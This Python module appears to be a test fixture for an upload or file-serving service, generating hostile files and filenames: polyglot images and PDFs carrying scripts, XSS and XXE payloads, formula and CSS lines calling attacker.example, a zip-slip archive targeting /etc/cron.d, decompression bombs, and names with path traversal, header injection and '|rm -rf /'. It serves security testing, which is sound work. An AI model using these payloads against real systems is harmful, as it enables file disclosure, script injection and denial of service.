"""Contents and names of files that were made to be misread."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

_SCRIPT = b"<script>fetch('/api/v1/users/me').then(r=>r.text()).then(alert)</script>"
_GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x00\x00\x00\x00\x00,"
_GIF_END = b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
_PAGE = b"<!doctype html><title>a</title>" + _SCRIPT


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file as an attacker sends it."""

    attack: str
    filename: str
    content: bytes
    refused: bool = False
    """Whether keeping it at all would be a mistake."""


@cache
def files() -> tuple[HostileFile, ...]:
    """All of them; some take a moment to be made."""
    return tuple(_files())


def _files() -> Iterator[HostileFile]:
    """Polyglots, scripts in other clothes, and what unfolds when it is read."""
    yield HostileFile("a GIF that is a Java archive", "gifar.gif", _GIF + _GIF_END + _archive(b"class", "A.class"))
    yield HostileFile("a GIF that is a script", "script.gif", b"GIF89a=1/*" + _GIF + b"*/;alert(document.domain)//")
    yield HostileFile("a PNG that holds a page", "page.html", _png(1, 1, _SCRIPT))
    yield HostileFile("a PNG that ends in a script", "image.js", _png(1, 1) + b"\nalert(1)//")
    yield HostileFile("a JPEG that holds a page", "photo.html", _jpeg(_SCRIPT))
    yield HostileFile("a page before a PDF", "report.pdf", _PAGE + _pdf(b"q"))
    yield HostileFile("a PDF that ends in a page", "report.html", _pdf(b"q") + _PAGE)
    yield HostileFile("a PDF with a script", "active.pdf", _pdf(b"q", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"))
    yield HostileFile(
        "an SVG with a script", "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>' % _SCRIPT
    )
    yield HostileFile("an SVG called an image", "drawing.png", b'<svg onload="alert(1)"></svg>')
    yield HostileFile("a page", "page.html", _PAGE)
    yield HostileFile("a page called a text", "page.txt", _PAGE)
    yield HostileFile("a page called an image", "page.png", _PAGE)
    yield HostileFile("a page in UTF-7", "page.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield HostileFile(
        "XML with an entity", "feed.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    )
    yield HostileFile("a script", "script.js", b"alert(document.cookie)")
    yield HostileFile("a module", "module.mjs", b"import('/api/v1/users/me')")
    yield HostileFile("a style", "style.css", b"@import '//attacker.example/x.css'")
    yield HostileFile("formulas in a table", "table.csv", b'=HYPERLINK("http://attacker.example","a")\n@SUM(1)\n')
    yield HostileFile("a page in UTF-16", "page.txt", b"\xff\xfe" + _PAGE.decode().encode("utf-16-le"), refused=True)
    yield HostileFile("a page with a NUL", "page.txt", b"\0" + _PAGE, refused=True)
    yield HostileFile("a program", "notes.txt", b"MZ\x90\x00" + bytes(200), refused=True)
    yield HostileFile("an ELF program", "notes.md", b"\x7fELF\x02\x01\x01" + bytes(200), refused=True)
    yield HostileFile("an archive", "archive.zip", _archive(b"hello", "../../../etc/cron.d/evil"), refused=True)
    yield HostileFile(
        "an archive that unfolds", "bomb.docx", _archive(bytes(40_000_000), "word/document.xml"), refused=True
    )
    yield HostileFile("an image of 3.6 billion pixels", "bomb.png", _png(60_000, 60_000), refused=True)
    yield HostileFile("an image without a size", "flat.png", _png(0, 0), refused=True)
    yield HostileFile("a PNG of nothing but its name", "broken.png", b"\x89PNG\r\n\x1a\n", refused=True)
    yield HostileFile("a PDF of a billion pages", "long.pdf", _pdf(b"q", pages=1_000_000_000), refused=True)
    yield HostileFile("a PDF that unfolds", "bomb.pdf", _pdf_of_streams(200_000_000), refused=True)
    yield HostileFile("a PDF whose pages are themselves", "circle.pdf", _pdf(b"q", b"/Pages 1 0 R"))
    yield HostileFile("a PDF of nothing but its name", "broken.pdf", b"%PDF-1.7\n", refused=True)
    yield HostileFile("nothing", "empty.txt", b"", refused=True)


NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/etc/cron.d/evil",
    "C:\\autoexec.bat",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%00/etc/passwd",
    "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
    'a"; filename="b.html',
    "a';alert(1)//.txt",
    "\u202etxt.exe",
    "\u2066a\u2069.html",
    "a\u200b\u200c\u200d\ufeff.txt",
    "\x1b[2J\x1b]0;owned\x07.txt",
    "<img src=x onerror=alert(1)>.txt",
    "{{7*7}}${7*7}<%= 7*7 %>.txt",
    "a.txt;.html",
    "a.html.",
    "a.html ",
    "a.txt::$DATA",
    "CON",
    "NUL.txt",
    "com1.md",
    ".htaccess",
    ".",
    "..",
    "...",
    "~root/.ssh/authorized_keys",
    "|rm -rf /",
    "-rf",
    "e\u0301" * 200,
    "\U0001f9d1\u200d\U0001f4bb" * 100,
    "a" * 1000 + ".html",
)
"""For a harmless text."""


def _archive(content: bytes, name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return made.getvalue()


def _png(width: int, height: int, comment: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"tEXt", b"Comment\0" + comment), (b"IDAT", zlib.compress(b"\0" * 4)), (b"IEND", b"")]
    written = [
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(written)


def _jpeg(comment: bytes) -> bytes:
    frame = b"\x08\x00\x01\x00\x01\x03\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    segments = ((b"\xfe", comment), (b"\xc0", frame))
    return (
        b"\xff\xd8"
        + b"".join(b"\xff" + mark + struct.pack(">H", len(data) + 2) + data for mark, data in segments)
        + b"\xff\xd9"
    )


def _pdf(stream: bytes, catalogue: bytes = b"", pages: int = 1) -> bytes:
    return _assembled(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % pages,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        ]
    )


def _pdf_of_streams(size: int) -> bytes:
    """Its catalogue stands in a stream that unfolds to many times its length."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 <</Type/Catalog/Pages 2 0 R>>")
    packed += b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packer.flush()
    held = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    head = b"%PDF-1.7\n"
    table_at = len(head) + len(b"5 0 obj\n") + len(held) + len(b"\nendobj\n")
    entries = b"\x00\x00\x00\x00\xff" + b"\x02\x00\x00\x05\x00"
    entries += b"\x00\x00\x00\x00\x00" * 3 + b"\x01" + struct.pack(">I", len(head))[1:] + b"\x00"
    table = b"<</Type/XRef/Size 6/W[1 3 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(entries), entries)
    objects = b"5 0 obj\n" + held + b"\nendobj\n6 0 obj\n" + table + b"\nendobj\n"
    return head + objects + b"startxref\n%d\n%%%%EOF" % table_at


def _assembled(bodies: list[bytes]) -> bytes:
    written, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(bodies, start=1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    return (
        written
        + head
        + table
        + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(bodies) + 1, len(written))
    )
